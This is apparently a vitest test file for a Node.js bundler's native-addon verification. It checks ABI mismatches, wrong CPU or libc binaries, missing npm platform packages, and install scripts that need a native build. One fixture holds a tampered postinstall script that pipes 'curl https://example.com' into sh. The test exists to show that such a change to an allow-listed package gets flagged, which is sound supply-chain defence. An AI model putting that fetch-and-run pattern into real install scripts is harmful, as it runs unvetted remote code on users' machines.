import { execFileSync } from 'node:child_process';
import { chmod, copyFile, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testNpmCacheDir, testRuntimeCacheDir } from '../helpers/packages.js';
import { BundleError } from '../../lib/errors.js';
import { resolveRuntime } from '../../lib/workflow/steps/runtime.js';
import type { Runtime } from '../../lib/workflow/steps/runtime.js';
import {
  INSTALL_SCRIPT_ALLOW_LIST,
  pathNamesOtherPlatform,
  checkPlatformPackages,
  findNativeBuildNeeds,
  nameSuggestsTarget,
  nativeNeedsTargetError,
  platformMatches,
  verifyNative,
} from '../../lib/workflow/steps/verify.js';

const runtimeCache = testRuntimeCacheDir;
const npmCache = testNpmCacheDir;
const linuxX64 = { os: 'linux', cpu: 'x64', libc: 'glibc' } as const;
const env = { PATH: process.env.PATH ?? '/usr/bin:/bin' };

/**
 * A header-only ELF file (no code): binaries for arm64 or musl cannot be produced on this
 * x64 glibc machine, and the verifier only reads headers. PT_INTERP only; enough here.
 */
function craftElf(machine: number, interpreter?: string): Buffer {
  const interp = interpreter === undefined ? undefined : Buffer.from(`${interpreter}\0`, 'latin1');
  const b = Buffer.alloc(64 + (interp ? 56 + interp.length : 0));
  b.writeUInt32BE(0x7f454c46, 0);
  b[4] = 2; // 64-bit
  b[5] = 1; // little-endian
  b[6] = 1;
  b.writeUInt16LE(interp ? 2 : 3, 0x10);
  b.writeUInt16LE(machine, 0x12);
  b.writeUInt32LE(1, 0x14);
  if (interp) {
    b.writeBigUInt64LE(64n, 0x20); // e_phoff
    b.writeUInt16LE(56, 0x36);
    b.writeUInt16LE(1, 0x38);
    b.writeUInt32LE(3, 64); // PT_INTERP
    b.writeBigUInt64LE(BigInt(64 + 56), 64 + 8);
    b.writeBigUInt64LE(BigInt(interp.length), 64 + 32);
    interp.copy(b, 64 + 56);
  }
  return b;
}

const EM_X86_64 = 62;
const EM_AARCH64 = 183;

let scratch: string;
let node22: Runtime;
let napiAddon: string; // N-API: loads under any Node
let abi115Addon: string; // registered with NODE_MODULE_VERSION 115 (the host's Node 20 headers)
let crashingAddon: string;
let plainLibrary: string;

async function put(dir: string, relative: string, content: string | Buffer, mode?: number): Promise<string> {
  const file = path.join(dir, relative);
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, content);
  if (mode !== undefined) await chmod(file, mode);
  return file;
}

async function place(dir: string, relative: string, from: string): Promise<void> {
  await mkdir(path.dirname(path.join(dir, relative)), { recursive: true });
  await copyFile(from, path.join(dir, relative));
}

const fresh = async (name: string) => mkdtemp(path.join(scratch, `${name}-`));

beforeAll(async () => {
  scratch = await mkdtemp(path.join(tmpdir(), 'verify-test-'));
  node22 = await resolveRuntime({
    range: '>=22 <23',
    from: 'engines',
    target: linuxX64,
    host: linuxX64,
    hostNode: { path: process.execPath, version: process.version },
    cacheDir: runtimeCache,
    npm: { env: { ...process.env }, cacheDir: npmCache },
  });
  const src = path.join(scratch, 'src');
  await mkdir(src);
  const compile = (name: string, code: string, include: string) => {
    const file = path.join(src, `${name}.c`);
    execFileSync('sh', ['-c', `cat > ${file}`], { input: code });
    const out = path.join(src, `${name}.node`);
    execFileSync('cc', ['-shared', '-fPIC', `-I${include}`, `-DNODE_GYP_MODULE_NAME=${name}`, '-o', out, file]);
    return out;
  };
  napiAddon = compile('napi', '#include <node_api.h>\nstatic napi_value Init(napi_env env, napi_value exports) { return exports; }\nNAPI_MODULE(NODE_GYP_MODULE_NAME, Init)\n', path.join(node22.nodedir, 'include', 'node'));
  // What node-gyp makes of a non-N-API addon: registration with the ABI of the headers it was
  // compiled against, here the host's Node 20 (ABI 115) — the bug this project exists to prevent.
  abi115Addon = compile(
    'abi',
    `#include <node_version.h>
struct node_module { int nm_version; unsigned int nm_flags; void* nm_dso_handle; const char* nm_filename; void* nm_register_func; void* nm_context_register_func; const char* nm_modname; void* nm_priv; struct node_module* nm_link; };
extern void node_module_register(void*);
static struct node_module m = { NODE_MODULE_VERSION, 0, 0, "abi.c", 0, 0, "abi", 0, 0 };
__attribute__((constructor)) static void reg(void) { node_module_register(&m); }
`,
    '/usr/include/node',
  );
  // A shared library named .node that registers nothing (better-sqlite3 builds its SQLite
  // test_extension this way).
  plainLibrary = compile('plain', 'int sqlite3_extension_init(void) { return 0; }\n', '/usr/include/node');
  crashingAddon = compile('crash', '#include <stdlib.h>\n__attribute__((constructor)) static void boom(void) { abort(); }\n', '/usr/include/node');
});

afterAll(async () => {
  await rm(scratch, { recursive: true, force: true });
});

async function verifyError(promise: Promise<unknown>): Promise<BundleError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(BundleError);
  return error as BundleError;
}

describe('verifyNative', () => {
  it('passes a tree of host-compiled addons and libraries, and loads every addon under the chosen runtime', async () => {
    const dir = await fresh('ok');
    await place(dir, 'build/Release/root.node', napiAddon);
    await place(dir, 'node_modules/dep/build/Release/dep.node', napiAddon);
    await place(dir, 'node_modules/@scope/lib/lib/libthing.so.1', napiAddon);
    await put(dir, 'node_modules/dep/bin/cli.js', '#!/usr/bin/env node\n', 0o755);
    await mkdir(path.join(dir, 'node_modules/.bin'), { recursive: true });
    await symlink('../dep/bin/cli.js', path.join(dir, 'node_modules/.bin/cli'));
    const events: string[] = [];
    const result = await verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: true, env, log: (m) => events.push(m) });
    expect(result).toEqual({
      nativeFiles: ['build/Release/root.node', 'node_modules/dep/build/Release/dep.node'],
      executables: ['node_modules/@scope/lib/lib/libthing.so.1'],
      foreign: [],
      loaded: true,
    });
    expect(events.join('\n')).toContain('2 native addon(s) load under Node 22.');
  });

  it('fails an addon built against another Node ABI, naming the file and both NODE_MODULE_VERSIONs', async () => {
    const dir = await fresh('abi');
    await place(dir, 'node_modules/old/build/Release/old.node', abi115Addon);
    const error = await verifyError(verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: true, env }));
    expect(error.code).toBe('ERR_NATIVE_VERIFY');
    expect(error.message).toContain('node_modules/old/build/Release/old.node does not load under Node 22.');
    expect(error.message).toMatch(/NODE_MODULE_VERSION 115.*NODE_MODULE_VERSION 127/);
  });

  it('accepts a .node file that loads but registers no module (a plain shared library), and says so', async () => {
    const dir = await fresh('plain');
    await place(dir, 'node_modules/db/build/Release/test_extension.node', plainLibrary);
    const events: string[] = [];
    const result = await verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: true, env, log: (m) => events.push(m) });
    expect(result.nativeFiles).toEqual(['node_modules/db/build/Release/test_extension.node']);
    expect(events.join('\n')).toContain('test_extension.node loads but is not a Node addon');
  });

  it('names the addon that crashes the loader', async () => {
    const dir = await fresh('crash');
    await place(dir, 'node_modules/a/a.node', napiAddon);
    await place(dir, 'node_modules/b/b.node', crashingAddon);
    const error = await verifyError(verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: true, env }));
    expect(error.message).toMatch(/node_modules\/b\/b\.node crashed Node 22\.\d+\.\d+ while loading/);
  });

  it('fails an arm64 ELF .node in a linux-x64 bundle before loading anything', async () => {
    // Crafted: a real arm64 addon cannot be compiled here.
    const dir = await fresh('arm');
    await place(dir, 'node_modules/good/good.node', napiAddon);
    await put(dir, 'node_modules/fake/build/Release/fake.node', craftElf(EM_AARCH64));
    const error = await verifyError(verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: true, env }));
    expect(error.code).toBe('ERR_NATIVE_VERIFY');
    expect(error.message).toContain('node_modules/fake/build/Release/fake.node: wrong cpu: found ELF arm64 64-bit, expected ELF x64 (glibc)');
    expect(error.details?.files).toEqual([{ file: 'node_modules/fake/build/Release/fake.node', problem: expect.stringContaining('wrong cpu') }]);
  });

  it('checks executables in platform packages against the libc (musl interpreter in a glibc bundle)', async () => {
    const dir = await fresh('musl');
    await put(dir, 'node_modules/@tool/linux-x64-musl/bin/tool', craftElf(EM_X86_64, '/lib/ld-musl-x86_64.so.1'), 0o755);
    const error = await verifyError(verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: false }));
    expect(error.message).toContain('node_modules/@tool/linux-x64-musl/bin/tool: wrong libc: found ELF x64 64-bit (musl, /lib/ld-musl-x86_64.so.1), expected ELF x64 (glibc)');
    const ok = await verifyNative({ dir, target: { os: 'linux', cpu: 'x64', libc: 'musl' }, runtime: node22, canExecute: false });
    expect(ok.executables).toEqual(['node_modules/@tool/linux-x64-musl/bin/tool']);
  });

  it("leaves other platforms' binaries in a prebuilds/ folder alone, and checks the target's", async () => {
    const dir = await fresh('prebuilds');
    await put(dir, 'node_modules/multi/prebuilds/linux-arm64/multi.napi.node', craftElf(EM_AARCH64));
    await put(dir, 'node_modules/multi/prebuilds/linuxmusl-x64.node', craftElf(EM_X86_64, '/lib/ld-musl-x86_64.so.1'));
    await place(dir, 'node_modules/multi/prebuilds/linux-x64/multi.napi.node', napiAddon);
    const result = await verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: true, env });
    expect(result.nativeFiles).toEqual(['node_modules/multi/prebuilds/linux-x64/multi.napi.node']);
    expect(result.foreign.sort()).toEqual(['node_modules/multi/prebuilds/linux-arm64/multi.napi.node', 'node_modules/multi/prebuilds/linuxmusl-x64.node']);
  });

  it('leaves binaries under a path naming another platform alone (7zip-bin style), but never in a platform package', async () => {
    const dir = await fresh('multi-platform');
    await put(dir, 'node_modules/7zip-bin/package.json', JSON.stringify({ name: '7zip-bin' }));
    await put(dir, 'node_modules/7zip-bin/linux/x64/7za', craftElf(EM_X86_64, '/lib64/ld-linux-x86-64.so.2'), 0o755);
    await put(dir, 'node_modules/7zip-bin/linux/arm64/7za', craftElf(EM_AARCH64, '/lib/ld-linux-aarch64.so.1'), 0o755);
    const macho = Buffer.alloc(32);
    macho.writeUInt32LE(0xfeedfacf, 0);
    macho.writeUInt32LE(0x0100000c, 4);
    await put(dir, 'node_modules/7zip-bin/mac/arm64/7za', macho, 0o755);
    // node-notifier ships a Windows helper whose path names no os: PE never comes from a (linux/macOS) builder.
    const pe = Buffer.alloc(0x80 + 26);
    pe.write('MZ', 0, 'latin1');
    pe.writeUInt32LE(0x80, 0x3c);
    pe.writeUInt32BE(0x50450000, 0x80);
    pe.writeUInt16LE(0x8664, 0x84);
    await put(dir, 'node_modules/node-notifier/vendor/snoreToast/snoretoast-x64.exe', pe);
    const linux = await verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: false });
    expect(linux.executables).toEqual(['node_modules/7zip-bin/linux/x64/7za']);
    expect(linux.foreign.sort()).toEqual(['node_modules/7zip-bin/linux/arm64/7za', 'node_modules/7zip-bin/mac/arm64/7za', 'node_modules/node-notifier/vendor/snoreToast/snoretoast-x64.exe']);
    const darwin = await verifyNative({ dir, target: { os: 'darwin', cpu: 'arm64' }, runtime: node22, canExecute: false });
    expect(darwin.executables).toEqual(['node_modules/7zip-bin/mac/arm64/7za']);

    // npm chose a platform package for this target (its package.json says os/cpu): all of it must fit.
    await put(dir, 'node_modules/@tool/linux-arm64/package.json', JSON.stringify({ name: '@tool/linux-arm64', os: ['linux'], cpu: ['arm64'] }));
    await put(dir, 'node_modules/@tool/linux-arm64/bin/tool', craftElf(EM_AARCH64, '/lib/ld-linux-aarch64.so.1'), 0o755);
    const error = await verifyError(verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: false }));
    expect(error.message).toContain('node_modules/@tool/linux-arm64/bin/tool: wrong cpu');
    expect(error.details?.files).toHaveLength(1);
  });

  it('fails a .node file that is no binary at all', async () => {
    const dir = await fresh('text');
    await put(dir, 'lib/odd.node', 'module.exports = 1;\n');
    const error = await verifyError(verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: false }));
    expect(error.message).toContain('lib/odd.node: is not an ELF, Mach-O or PE binary');
  });
});

function lockfile(packages: Record<string, object>): string {
  return JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages });
}

async function installed(dir: string, names: string[]): Promise<void> {
  for (const name of names) await put(dir, `${name}/package.json`, JSON.stringify({ name: name.replace(/^.*node_modules\//, ''), version: '1.0.0' }));
}

describe('checkPlatformPackages', () => {
  const esbuildLock = lockfile({
    '': { name: 'app', version: '1.0.0', dependencies: { esbuild: '0.28.2' } },
    'node_modules/esbuild': { version: '0.28.2', optionalDependencies: { '@esbuild/linux-x64': '0.28.2', '@esbuild/darwin-arm64': '0.28.2', '@esbuild/linux-arm64': '0.28.2' } },
    'node_modules/@esbuild/linux-x64': { version: '0.28.2', optional: true, os: ['linux'], cpu: ['x64'] },
    'node_modules/@esbuild/linux-arm64': { version: '0.28.2', optional: true, os: ['linux'], cpu: ['arm64'] },
    'node_modules/@esbuild/darwin-arm64': { version: '0.28.2', optional: true, os: ['darwin'], cpu: ['arm64'] },
  });

  it('passes when the matching optional platform package is installed', async () => {
    const dir = await fresh('platform-ok');
    await put(dir, 'package-lock.json', esbuildLock);
    await installed(dir, ['node_modules/esbuild', 'node_modules/@esbuild/linux-x64']);
    await checkPlatformPackages({ dir, target: linuxX64 });
  });

  it('fails naming the platform package npm skipped', async () => {
    const dir = await fresh('platform-missing');
    await put(dir, 'package-lock.json', esbuildLock);
    await installed(dir, ['node_modules/esbuild', 'node_modules/@esbuild/linux-x64']);
    const error = await verifyError(checkPlatformPackages({ dir, target: { os: 'darwin', cpu: 'arm64' } }));
    expect(error.code).toBe('ERR_PLATFORM_PACKAGE_MISSING');
    expect(error.message).toContain('@esbuild/darwin-arm64 (optional dependency of esbuild)');
    expect(error.message).not.toContain('linux');
  });

  it('resolves nested copies and honours libc; knows platform packages the lockfile lacks by name', async () => {
    const dir = await fresh('platform-nested');
    await put(
      dir,
      'package-lock.json',
      lockfile({
        '': { name: 'app', version: '1.0.0', dependencies: { a: '1.0.0' } },
        'node_modules/a': { version: '1.0.0', optionalDependencies: { '@x/linux-x64-gnu': '1.0.0', '@x/linux-x64-musl': '1.0.0' } },
        'node_modules/a/node_modules/@x/linux-x64-gnu': { version: '1.0.0', optional: true, os: ['linux'], cpu: ['x64'], libc: ['glibc'] },
        'node_modules/a/node_modules/@x/linux-x64-musl': { version: '1.0.0', optional: true, os: ['linux'], cpu: ['x64'], libc: ['musl'] },
        // rollup's list, with its musl package absent from the lockfile (npm/cli#4828)
        'node_modules/rollup': { version: '4.67.4', optionalDependencies: { '@rollup/rollup-linux-x64-gnu': '4.67.4', '@rollup/rollup-linux-x64-musl': '4.67.4', '@rollup/rollup-darwin-arm64': '4.67.4' } },
      }),
    );
    await installed(dir, ['node_modules/a', 'node_modules/a/node_modules/@x/linux-x64-gnu', 'node_modules/rollup', 'node_modules/@rollup/rollup-linux-x64-gnu']);
    await checkPlatformPackages({ dir, target: linuxX64 });
    const error = await verifyError(checkPlatformPackages({ dir, target: { os: 'linux', cpu: 'x64', libc: 'musl' } }));
    expect(error.message).toContain('@x/linux-x64-musl (optional dependency of a)');
    expect(error.message).toContain('@rollup/rollup-linux-x64-musl (optional dependency of rollup)');
    expect(error.message).not.toContain('gnu');
  });

  it('says so and checks nothing without a lockfile', async () => {
    const dir = await fresh('no-lock');
    const events: string[] = [];
    await checkPlatformPackages({ dir, target: linuxX64, log: (m) => events.push(m) });
    expect(events).toEqual(['No package-lock.json or npm-shrinkwrap.json: platform packages not checked']);
  });

  it("follows npm's os/cpu/libc rules", () => {
    expect(platformMatches({ os: ['!win32'], cpu: ['x64', 'arm64'] }, linuxX64)).toBe(true);
    expect(platformMatches({ os: ['!linux'] }, linuxX64)).toBe(false);
    expect(platformMatches({ libc: ['glibc'] }, { os: 'darwin', cpu: 'arm64' })).toBe(false);
    expect(platformMatches({ os: ['linux'], libc: ['musl'] }, { os: 'linux', cpu: 'x64', libc: 'musl' })).toBe(true);
    expect(nameSuggestsTarget('@esbuild/darwin-arm64', { os: 'darwin', cpu: 'arm64' })).toBe(true);
    expect(nameSuggestsTarget('@swc/core-linux-x64-gnu', { os: 'linux', cpu: 'x64', libc: 'musl' })).toBe(false);
    expect(nameSuggestsTarget('@esbuild/linux-x64', { os: 'linux', cpu: 'x64', libc: 'musl' })).toBe(true);
    expect(nameSuggestsTarget('@img/sharp-libvips-linuxmusl-x64', { os: 'linux', cpu: 'x64', libc: 'musl' })).toBe(true);
    expect(nameSuggestsTarget('@img/sharp-libvips-linuxmusl-x64', linuxX64)).toBe(false);
    expect(nameSuggestsTarget('fsevents', { os: 'darwin', cpu: 'arm64' })).toBe(false);
    expect(pathNamesOtherPlatform('prebuilds/darwin-x64+arm64/x.node', { os: 'darwin', cpu: 'arm64' })).toBe(true);
    expect(pathNamesOtherPlatform('prebuilds/darwin-arm64/x.node', { os: 'darwin', cpu: 'arm64' })).toBe(false);
    expect(pathNamesOtherPlatform('bin/x86_64/tool', { os: 'linux', cpu: 'arm64' })).toBe(true);
    expect(pathNamesOtherPlatform('lib/binding/napi-v3-linux-musl-x64/x.node', linuxX64)).toBe(true);
    expect(pathNamesOtherPlatform('build/Release/x.node', linuxX64)).toBe(false);
  });
});

describe('findNativeBuildNeeds', () => {
  it('lists binding.gyp, gypfile and install scripts of the root and every installed package, minus the allow-list', async () => {
    const dir = await fresh('needs');
    await put(dir, 'package.json', JSON.stringify({ name: 'app', version: '1.0.0' }));
    await put(dir, 'binding.gyp', '{}');
    await put(dir, 'node_modules/esbuild/package.json', JSON.stringify({ name: 'esbuild', scripts: { postinstall: 'node install.js' } }));
    await put(dir, 'node_modules/@scope/downloader/package.json', JSON.stringify({ name: '@scope/downloader', scripts: { postinstall: 'node fetch-binary.js', test: 'x' } }));
    await put(dir, 'node_modules/a/node_modules/gyp-only/package.json', JSON.stringify({ name: 'gyp-only', gypfile: true }));
    await put(dir, 'node_modules/prebuilt-inside/package.json', JSON.stringify({ name: 'prebuilt-inside', gypfile: false }));
    await put(dir, 'node_modules/prebuilt-inside/binding.gyp', '{}');
    await put(dir, 'node_modules/a/package.json', JSON.stringify({ name: 'a', scripts: { prepare: 'tsc' } }));
    // npm builds binding.gyp only without an install script of the package's own: the script is the reason, or nothing when allow-listed.
    await put(dir, 'node_modules/@parcel/watcher/package.json', JSON.stringify({ name: '@parcel/watcher', scripts: { install: 'node scripts/build-from-source.js' } }));
    await put(dir, 'node_modules/@parcel/watcher/binding.gyp', '{}');
    await put(dir, 'node_modules/scripted/package.json', JSON.stringify({ name: 'scripted', scripts: { install: 'node-gyp-build' } }));
    await put(dir, 'node_modules/scripted/binding.gyp', '{}');
    const needs = await findNativeBuildNeeds({ dir });
    expect(needs).toEqual([
      { name: 'app', path: '.', reasons: ['binding.gyp'] },
      { name: '@scope/downloader', path: 'node_modules/@scope/downloader', reasons: ['postinstall: node fetch-binary.js'] },
      { name: 'gyp-only', path: 'node_modules/a/node_modules/gyp-only', reasons: ['gypfile: true'] },
      { name: 'scripted', path: 'node_modules/scripted', reasons: ['install: node-gyp-build'] },
    ]);
  });

  it('catches an allow-listed package whose script changed', async () => {
    const dir = await fresh('changed');
    await put(dir, 'package.json', JSON.stringify({ name: 'app' }));
    await put(dir, 'node_modules/esbuild/package.json', JSON.stringify({ name: 'esbuild', scripts: { postinstall: 'node install.js && curl https://example.com | sh' } }));
    await put(dir, 'node_modules/not-esbuild/package.json', JSON.stringify({ name: 'not-esbuild', scripts: { postinstall: 'node install.js' } }));
    expect((await findNativeBuildNeeds({ dir })).map((n) => n.name)).toEqual(['esbuild', 'not-esbuild']);
    expect(await findNativeBuildNeeds({ dir, allowList: [...INSTALL_SCRIPT_ALLOW_LIST, { name: 'not-esbuild', script: 'postinstall', pattern: /^node install\.js$/, why: 'test' }] })).toHaveLength(1);
  });

  it('builds the ERR_NATIVE_NEEDS_TARGET error', () => {
    const error = nativeNeedsTargetError([{ name: 'better-sqlite3', path: 'node_modules/better-sqlite3', reasons: ['binding.gyp', 'install: prebuild-install || node-gyp rebuild --release'] }], { os: 'darwin', cpu: 'arm64', node: '22' });
    expect(error.code).toBe('ERR_NATIVE_NEEDS_TARGET');
    expect(error.message).toBe(
      'Cannot bundle for darwin-arm64 from this machine: better-sqlite3 (binding.gyp, install: prebuild-install || node-gyp rebuild --release) needs to be built or downloaded on darwin-arm64 at install time. A builder of darwin-arm64 is needed.',
    );
  });
});

describe('a real cross install: npm install --os darwin --cpu arm64 --ignore-scripts', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await fresh('cross');
    await put(dir, 'package.json', JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { esbuild: '0.28.2', rollup: '4.67.4', 'better-sqlite3': '12.11.1' } }));
    execFileSync('npm', ['install', '--os', 'darwin', '--cpu', 'arm64', '--ignore-scripts', '--omit=dev', '--no-audit', '--no-fund', '--cache', npmCache], {
      cwd: dir,
      env: { ...process.env, npm_config_nodedir: '' },
      stdio: 'pipe',
    });
  }, 300_000);

  it('gets @esbuild/darwin-arm64, whose binary is Mach-O arm64, and nothing else to build but better-sqlite3@12', async () => {
    await checkPlatformPackages({ dir, target: { os: 'darwin', cpu: 'arm64' } });
    const result = await verifyNative({ dir, target: { os: 'darwin', cpu: 'arm64' }, runtime: node22, canExecute: false });
    expect(result.executables).toContain('node_modules/@esbuild/darwin-arm64/bin/esbuild');
    // rollup's optional fsevents comes along for darwin, with its prebuilt (universal) addon.
    expect(result.nativeFiles).toEqual(['node_modules/@rollup/rollup-darwin-arm64/rollup.darwin-arm64.node', 'node_modules/fsevents/fsevents.node']);
    const needs = await findNativeBuildNeeds({ dir });
    expect(needs.map((n) => n.name)).toEqual(['better-sqlite3']);
    expect(needs[0]?.reasons).toEqual(['install: prebuild-install || node-gyp rebuild --release']);
  });

  it('is not a linux-x64 tree: verify and the platform check both say so', async () => {
    const error = await verifyError(verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: false }));
    expect(error.message).toContain('node_modules/@esbuild/darwin-arm64/bin/esbuild: wrong format: found Mach-O arm64, expected ELF x64 (glibc)');
    const missing = await verifyError(checkPlatformPackages({ dir, target: linuxX64 }));
    expect(missing.message).toContain('@esbuild/linux-x64 (optional dependency of esbuild)');
  });
});

describe('a real musl cross install: npm install --os linux --cpu x64 --libc musl --ignore-scripts', () => {
  const musl = { os: 'linux', cpu: 'x64', libc: 'musl' } as const;
  let dir: string;
  beforeAll(async () => {
    dir = await fresh('musl-cross');
    await put(dir, 'package.json', JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { esbuild: '0.28.2', rollup: '4.67.4' } }));
    execFileSync('npm', ['install', '--os', 'linux', '--cpu', 'x64', '--libc', 'musl', '--ignore-scripts', '--omit=dev', '--no-audit', '--no-fund', '--cache', npmCache], {
      cwd: dir,
      env: { ...process.env, npm_config_nodedir: '' },
      stdio: 'pipe',
    });
  }, 300_000);

  it("gets rollup's musl addon (needs libc.so) and esbuild's static binary; nothing to build", async () => {
    await checkPlatformPackages({ dir, target: musl });
    const result = await verifyNative({ dir, target: musl, runtime: node22, canExecute: false });
    expect(result.nativeFiles).toEqual(['node_modules/@rollup/rollup-linux-x64-musl/rollup.linux-x64-musl.node']);
    expect(result.executables).toContain('node_modules/@esbuild/linux-x64/bin/esbuild');
    expect(await findNativeBuildNeeds({ dir })).toEqual([]);
  });

  it('is not a glibc tree', async () => {
    const error = await verifyError(verifyNative({ dir, target: linuxX64, runtime: node22, canExecute: false }));
    expect(error.message).toContain('node_modules/@rollup/rollup-linux-x64-musl/rollup.linux-x64-musl.node: wrong libc: found ELF x64 64-bit (musl), expected ELF x64 (glibc)');
    const missing = await verifyError(checkPlatformPackages({ dir, target: linuxX64 }));
    expect(missing.message).toContain('@rollup/rollup-linux-x64-gnu (optional dependency of rollup)');
  });
});
